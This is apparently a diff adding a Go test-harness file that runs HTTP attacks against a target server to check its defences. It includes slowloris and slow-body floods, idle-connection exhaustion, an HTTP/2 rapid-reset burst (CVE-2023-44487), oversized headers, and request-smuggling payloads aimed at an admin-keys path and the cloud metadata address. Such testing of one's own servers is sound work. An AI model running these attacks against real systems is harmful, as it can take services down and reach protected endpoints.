@@ -1,0 +1,244 @@
+package attack
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+)
+
+// connections are the attacks on the server's ends of its connections. Each says what others see meanwhile.
+func connections() []Attack {
+	return []Attack{
+		{ID: "A14", What: "slowloris: headers, a byte at a time", try: slowHeaders, slow: true},
+		{ID: "A15", What: "bodies, a byte at a time", try: slowBodies, slow: true},
+		{ID: "A16", What: "answers that nobody reads", try: slowReaders},
+		{ID: "A17", What: "idle connections", try: idleConnections},
+		{ID: "A18", What: "HTTP/2: streams that are reset at once", try: rapidReset},
+		{ID: "A19", What: "headers in number and size", try: manyHeaders},
+		{ID: "A20", What: "smuggling: two lengths, odd spellings, pipelines, strange hosts", try: smuggling},
+	}
+}
+
+// slowly opens n connections, each of which writes start and then a byte a second, and counts how many the server ended by itself in time.
+func slowly(ctx context.Context, t *Target, x *trial, n int, start string, within time.Duration) (ended int) {
+	var mu sync.Mutex
+	crowd(n, func(int) {
+		conn, err := t.dial(ctx)
+		if err != nil {
+			x.fail("connect: %v", err)
+			return
+		}
+		defer conn.Close()
+		_, _ = io.WriteString(conn, start)
+		heard := make(chan struct{})
+		go func() {
+			defer close(heard)
+			_ = conn.SetReadDeadline(time.Now().Add(within)) // a connection that is broken ends the read
+			_, err := io.Copy(io.Discard, conn)
+			var late net.Error
+			if !asTimeout(err, &late) {
+				mu.Lock()
+				ended++
+				mu.Unlock()
+			}
+		}()
+		for {
+			select {
+			case <-heard:
+				return
+			case <-time.After(time.Second):
+				_, _ = io.WriteString(conn, "x")
+			}
+		}
+	})
+	return ended
+}
+
+// beside looks every quarter of a second whether others are served, until done is closed.
+func beside(ctx context.Context, x *trial, done <-chan struct{}) {
+	for {
+		select {
+		case <-done:
+			return
+		case <-time.After(250 * time.Millisecond):
+			x.served(ctx)
+		}
+	}
+}
+
+func slowAttack(ctx context.Context, t *Target, x *trial, what, start string, within time.Duration) {
+	const n = 100
+	done, ended := make(chan struct{}), 0
+	go func() {
+		defer close(done)
+		ended = slowly(ctx, t, x, n, start, within)
+	}()
+	beside(ctx, x, done)
+	x.note(fmt.Sprintf("%d connections with %s", n, what), fmt.Sprintf("%d of them ended by the server", ended))
+	if ended < n {
+		x.fail("after %s only %d of %d were ended", within, ended, n)
+	}
+}
+
+func slowHeaders(ctx context.Context, t *Target, x *trial) {
+	slowAttack(ctx, t, x, "headers without end", "GET /livez HTTP/1.1\r\nHost: "+t.host+"\r\nX: ", 10*time.Second)
+}
+
+func slowBodies(ctx context.Context, t *Target, x *trial) {
+	slowAttack(ctx, t, x, "a body that dribbles", t.request("POST", "/paid/submit", "Content-Type: application/json",
+		"Content-Length: 10000")+"{", 20*time.Second)
+}
+
+func slowReaders(ctx context.Context, t *Target, x *trial) {
+	var open []net.Conn
+	for range 100 {
+		conn, err := t.dial(ctx)
+		if err != nil {
+			x.fail("connect: %v", err)
+			break
+		}
+		open = append(open, conn)
+		_, _ = io.WriteString(conn, strings.Repeat(t.request("GET", "/openapi.yaml"), 20))
+	}
+	x.note(fmt.Sprintf("%d connections that ask for 20 pages and read none", len(open)), "nobody reads")
+	for range 4 {
+		<-time.After(250 * time.Millisecond)
+		x.served(ctx)
+	}
+	for _, conn := range open {
+		_ = conn.Close()
+	}
+}
+
+func idleConnections(ctx context.Context, t *Target, x *trial) {
+	const n = 3000
+	var open []net.Conn
+	for range n {
+		conn, err := t.dial(ctx)
+		if err != nil {
+			break // this process has no more descriptors
+		}
+		open = append(open, conn)
+	}
+	x.note(fmt.Sprintf("%d connections that say nothing", len(open)), "nothing")
+	t.client.CloseIdleConnections() // the next ones are new
+	x.served(ctx)
+	t.client.CloseIdleConnections()
+	x.served(ctx)
+	for _, conn := range open {
+		_ = conn.Close()
+	}
+}
+
+// rapidReset speaks HTTP/2 without TLS. A server that does not speak it ends the connection; one that does is sent 10,000 streams, each reset
+// as soon as it is opened (CVE-2023-44487).
+func rapidReset(ctx context.Context, t *Target, x *trial) {
+	conn, err := t.dial(ctx)
+	if err != nil {
+		x.fail("connect: %v", err)
+		return
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // a connection that is broken says so
+	_, _ = io.WriteString(conn, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+	_, _ = conn.Write(frame(0x4, 0, 0, nil)) // SETTINGS
+	head := make([]byte, 9)
+	if _, err := io.ReadFull(conn, head); err != nil || head[3] != 0x4 {
+		x.note("the preface of HTTP/2", "closed: not spoken here")
+		return
+	}
+	go func() { _, _ = io.Copy(io.Discard, conn) }()
+	fields := append([]byte{0x82, 0x86, 0x84, 0x41, byte(len(t.host))}, t.host...) // GET, http, /, :authority
+	var burst bytes.Buffer
+	for n := range uint32(10_000) {
+		burst.Write(frame(0x1, 0x5, 2*n+1, fields))             // HEADERS, with its end and the stream's
+		burst.Write(frame(0x3, 0, 2*n+1, []byte{0, 0, 0, 0x8})) // RST_STREAM: CANCEL
+	}
+	_, err = burst.WriteTo(conn)
+	back := "all were read"
+	if err != nil {
+		back = "closed"
+	}
+	x.note("10,000 streams, each reset at once", back)
+	for range 4 {
+		<-time.After(100 * time.Millisecond)
+		x.served(ctx)
+	}
+}
+
+func frame(kind, flags byte, stream uint32, payload []byte) []byte {
+	f := make([]byte, 9, 9+len(payload))
+	f[0], f[1], f[2], f[3], f[4] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags
+	binary.BigEndian.PutUint32(f[5:], stream)
+	return append(f, payload...)
+}
+
+func manyHeaders(ctx context.Context, t *Target, x *trial) {
+	get := "GET /livez HTTP/1.1\r\nHost: " + t.host + "\r\n"
+	x.want("10,000 headers", t.raw(ctx, get+strings.Repeat("X-A: b\r\n", 10_000)+"\r\n"), "431", "closed")
+	x.want("one header of 100 KiB", t.raw(ctx, get+"X: "+strings.Repeat("y", 100<<10)+"\r\n\r\n"), "431", "closed")
+	x.want("a path of 100 KiB", t.raw(ctx, "GET /"+strings.Repeat("y", 100<<10)+" HTTP/1.1\r\nHost: "+t.host+"\r\n\r\n"), "431", "414", "closed")
+	x.want("trailers of 100 KiB", t.raw(ctx, t.request("POST", "/paid/submit", "Transfer-Encoding: chunked",
+		"Trailer: X")+"0\r\nX: "+strings.Repeat("y", 100<<10)+"\r\n\r\n"),
+		"202", "400", "413", "431", "closed")
+}
+
+func smuggling(ctx context.Context, t *Target, x *trial) {
+	post := func(headers ...string) string {
+		return t.request("POST", "/public/submit", append([]string{"Content-Type: application/json"}, headers...)...)
+	}
+	inner := "GET /admin/keys HTTP/1.1\r\nHost: x\r\n\r\n"
+	for what, text := range map[string]string{
+		"two Content-Lengths":         post("Content-Length: 2", "Content-Length: 50") + "{}" + inner,
+		"a strange Transfer-Encoding": post("Transfer-Encoding: xchunked") + "2\r\n{}\r\n0\r\n\r\n",
+		"two Transfer-Encodings":      post("Transfer-Encoding: chunked, identity") + "0\r\n\r\n",
+		"a blank before the colon":    post("Content-Length : 2") + "{}",
+		"a negative length":           post("Content-Length: -1") + "{}",
+		"a length with a plus":        post("Content-Length: +2") + "{}",
+		"a bad chunk size":            post("Transfer-Encoding: chunked") + "0x2\r\n{}\r\n0\r\n\r\n",
+		"no Host":                     "GET /livez HTTP/1.1\r\n\r\n",
+		"two Hosts":                   "GET /livez HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
+		"a Host with a blank":         "GET /livez HTTP/1.1\r\nHost: a b\r\n\r\n",
+		"a NUL in a header":           "GET /livez HTTP/1.1\r\nHost: a\r\nX: \x00\r\n\r\n",
+		"HTTP/9.9":                    "GET /livez HTTP/9.9\r\nHost: a\r\n\r\n",
+		"a bare CR":                   "GET /livez HTTP/1.1\rHost: a\r\n\r\n",
+	} {
+		x.want(what, t.raw(ctx, text), "400", "501", "505", "closed")
+	}
+	both := t.raw(ctx, post("Content-Length: 4", "Transfer-Encoding: chunked")+"0\r\n\r\n"+inner)
+	x.want("Content-Length and Transfer-Encoding", both, "202", "400")
+	x.want("a folded header", t.raw(ctx, post("X-A: b\r\n c", "Content-Length: 2")+"{}"), "202", "400") // one header, RFC 9112 allows
+	x.want("CONNECT", t.raw(ctx, "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n"), "404", "405", "400", "401")
+	x.want("an absolute URI of another host", t.raw(ctx, "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: "+t.host+"\r\n\r\n"),
+		"404", "401", "403")
+	pipelined(ctx, t, x)
+}
+
+// pipelined sends requests one behind the other: each has its own answer, and a stranger's behind alice's is a stranger's.
+func pipelined(ctx context.Context, t *Target, x *trial) {
+	conn, err := t.dial(ctx)
+	if err != nil {
+		x.fail("connect: %v", err)
+		return
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // a connection that is broken says so
+	_, _ = io.WriteString(conn, t.request("GET", "/api/jobs")+"GET /api/jobs HTTP/1.1\r\nHost: "+t.host+"\r\n\r\n"+t.request("GET", "/admin/keys"))
+	answers := bufio.NewReader(conn)
+	for i, wanted := range []string{"200", "401 UNAUTHORIZED", "403 FORBIDDEN"} {
+		resp, err := http.ReadResponse(answers, nil)
+		if err != nil {
+			x.fail("pipelined request %d: %v", i+1, err)
+			return
+		}
+		x.want(fmt.Sprintf("pipelined request %d", i+1), read(resp), wanted)
+	}
+}
